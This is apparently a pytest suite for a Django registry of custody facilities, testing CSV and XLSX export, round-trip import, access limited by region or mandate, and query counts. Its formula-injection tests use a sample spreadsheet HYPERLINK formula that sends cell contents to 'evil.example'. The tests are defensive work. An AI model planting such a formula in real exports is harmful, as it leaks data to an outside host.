from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from facilities import services
from facilities.factories import FacilityFactory, SnapshotFactory, UnitFactory
from facilities.models import Facility
from facilities.tests.spreadsheets import read_xlsx, registry_counts
from facilities.transfer.columns import DATASETS
from facilities.transfer.importer import import_file

MODEL_BACKEND = "django.contrib.auth.backends.ModelBackend"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def registry(personas):
    """Units, snapshots with occupancy, an optional field left empty and one hostile name."""
    colony = personas.colony
    unit = UnitFactory(facility=colony, code="B-1", living_space_m2=Decimal("240.5"))
    UnitFactory(facility=colony, code="MC-1", kind="mother_child", capacity=10, living_space_m2=Decimal("80.0"))
    UnitFactory(facility=personas.other_colony, code="B-1")
    for day in (1, 2):
        services.record_population_snapshot(
            facility=colony, by=None, date=dt.date(2026, 10, day), total=400 + day, women=30, pregnant_women=2,
            mothers_with_children=3, children_with_mothers=3, disabled=5, occupancy={unit: 50},
        )
    SnapshotFactory(facility=personas.other_colony, date=dt.date(2026, 10, 1), total=700, minors=3)
    # Stored before today's text rules refused such values: the export must still neutralise them.
    Facility.objects.filter(pk=personas.other_colony.pk).update(name_en=INJECTION, address="-1 Street")
    services.update_facility(facility=personas.other_colony, by=None, maximum_capacity=900)
    return personas


def export(client, **params):
    response = client.get(reverse("facilities:export"), params)
    assert response.status_code == 200, response.content
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def logged_in(client, user):
    client.force_login(user, backend=MODEL_BACKEND)
    return client


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_csv_export_has_the_documented_header_and_a_row_per_facility(client, registry):
    data = export(logged_in(client, registry.npm_monitor), dataset="facilities", format="csv")

    rows = csv_rows(data)
    assert data.startswith("\ufeff".encode())
    assert rows[0] == DATASETS["facilities"].header
    assert [row[0] for row in rows[1:]] == ["AK-159/2", "LA-155/1", "SEI-01"]
    other = dict(zip(rows[0], rows[1], strict=True))
    assert (other["region"], other["operator"], other["maximum_capacity"]) == ("KZ-35", "penal-committee", "900")


def test_an_xlsx_export_without_a_dataset_holds_every_dataset_as_a_sheet(client, registry):
    response = logged_in(client, registry.npm_monitor).get(reverse("facilities:export"), {"format": "xlsx-import"})

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="custodywatch-registry-' in response["Content-Disposition"]
    sheets = read_xlsx(response.content)
    assert list(sheets) == ["facilities", "units", "population"]
    assert len(sheets["units"]) == 1 + 3
    assert sheets["population"][0] == tuple(DATASETS["population"].header)
    assert sheets["population"][1][:4] == ("AK-159/2", dt.datetime(2026, 10, 1), "self_reported", 700)


@pytest.mark.parametrize("dataset", ["facilities", "units", "population"])
def test_a_csv_export_imports_back_unchanged(client, registry, dataset):
    data = export(logged_in(client, registry.npm_monitor), dataset=dataset, format="csv")
    before = registry_counts()

    report = import_file(data=data, filename=f"{dataset}.csv", dataset=dataset, by=registry.npm_monitor)

    assert report.ok, report.problems
    outcome = report.outcomes[dataset]
    assert (outcome.created, outcome.updated) == (0, 0)
    assert outcome.unchanged == len(csv_rows(data)) - 1
    assert registry_counts() == before


def test_an_xlsx_export_imports_back_unchanged(client, registry):
    data = export(logged_in(client, registry.npm_monitor), format="xlsx-import")
    before = registry_counts()

    report = import_file(data=data, filename="registry.xlsx", by=registry.npm_monitor)

    assert report.ok, report.problems
    assert {name: (o.created, o.updated, o.unchanged) for name, o in report.outcomes.items()} == {
        "facilities": (0, 0, 3), "units": (0, 0, 3), "population": (0, 0, 3),
    }
    assert registry_counts() == before


def test_an_edited_export_updates_only_what_was_edited(client, registry):
    data = export(logged_in(client, registry.npm_monitor), format="xlsx-import")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    workbook["units"]["E2"] = 55  # capacity of the first unit
    buffer = io.BytesIO()
    workbook.save(buffer)

    report = import_file(data=buffer.getvalue(), filename="registry.xlsx", by=registry.npm_monitor)

    assert report.ok, report.problems
    assert {name: o.updated for name, o in report.outcomes.items()} == {"facilities": 0, "units": 1, "population": 0}


def test_formula_injection_is_neutralised_in_csv(client, registry):
    rows = csv_rows(export(logged_in(client, registry.npm_monitor), dataset="facilities", format="csv"))

    other = dict(zip(rows[0], rows[1], strict=True))
    assert other["name_en"] == "'" + INJECTION
    assert other["address"] == "'-1 Street"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_formula_injection_is_neutralised_in_xlsx(client, registry):
    data = export(logged_in(client, registry.npm_monitor), dataset="facilities", format="xlsx-import")

    worksheet = openpyxl.load_workbook(io.BytesIO(data))["facilities"]
    cell = worksheet["D2"]
    assert cell.value == INJECTION
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert not any(c.data_type == "f" for row in worksheet.iter_rows() for c in row)


def test_a_text_cell_like_an_excel_error_code_stays_text(client, personas):
    services.update_facility(facility=personas.colony, by=None, address="#N/A")

    data = export(logged_in(client, personas.npm_monitor), dataset="facilities", format="xlsx-import")

    cell = openpyxl.load_workbook(io.BytesIO(data))["facilities"]["H3"]
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_the_public_monitoring_commission_exports_only_its_region(client, registry):
    client = logged_in(client, registry.pmc_member)

    facilities = csv_rows(export(client, dataset="facilities", format="csv"))
    units = csv_rows(export(client, dataset="units", format="csv"))
    sheets = read_xlsx(export(client, format="xlsx-import"))

    assert [row[0] for row in facilities[1:]] == [registry.colony.code]
    assert {row[0] for row in units[1:]} == {registry.colony.code}
    assert {row[0] for row in sheets["population"][1:]} == {registry.colony.code}


def test_the_childrens_ombudsman_exports_only_facilities_in_their_mandate(client, registry):
    rows = csv_rows(export(logged_in(client, registry.ombudsman_monitor), dataset="facilities", format="csv"))

    assert [row[0] for row in rows[1:]] == [registry.special_school.code]


@pytest.mark.parametrize("persona", ["facility_officer", "outsider"])
def test_those_without_the_export_capability_are_forbidden(client, personas, persona):
    response = logged_in(client, getattr(personas, persona)).get(reverse("facilities:export"), {"format": "xlsx"})

    assert response.status_code == 403


@pytest.mark.parametrize(
    "params", [{"dataset": "people", "format": "csv"}, {"dataset": "units", "format": "pdf"}, {"format": "csv"}]
)
def test_a_bad_export_request_is_answered_with_a_message(client, personas, params):
    response = logged_in(client, personas.npm_monitor).get(reverse("facilities:export"), params)

    assert response.status_code == 400
    assert response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "xlsx-import"])
def test_the_export_takes_a_fixed_number_of_queries_however_large_the_registry(
    client, personas, django_assert_max_num_queries, fmt
):
    for _n in range(40):
        facility = FacilityFactory(region=personas.region, operator=personas.colony.operator)
        UnitFactory(facility=facility)
        for day in (1, 2, 3):
            SnapshotFactory(facility=facility, date=dt.date(2026, 10, day))
    client = logged_in(client, personas.npm_monitor)

    with django_assert_max_num_queries(10):
        data = export(client, dataset="population", format=fmt) if fmt == "csv" else export(client, format=fmt)

    assert data


def test_the_export_command_writes_a_workbook_that_imports_back_unchanged(tmp_path, registry):
    path = tmp_path / "registry.xlsx"

    call_command("export_registry", str(path))

    assert list(read_xlsx(path.read_bytes())) == ["facilities", "units", "population"]
    report = import_file(data=path.read_bytes(), filename=path.name, by=None)
    assert report.ok
    assert all(o.created == o.updated == 0 for o in report.outcomes.values())


def test_the_export_command_writes_one_dataset_as_csv_within_a_users_mandate(tmp_path, registry):
    path = tmp_path / "units.csv"

    call_command("export_registry", str(path), dataset="units", user="saule.pmc")

    rows = csv_rows(path.read_bytes())
    assert {row[0] for row in rows[1:]} == {registry.colony.code}


def test_the_export_command_needs_a_dataset_for_csv(tmp_path, personas):
    with pytest.raises(CommandError):
        call_command("export_registry", str(tmp_path / "registry.csv"))
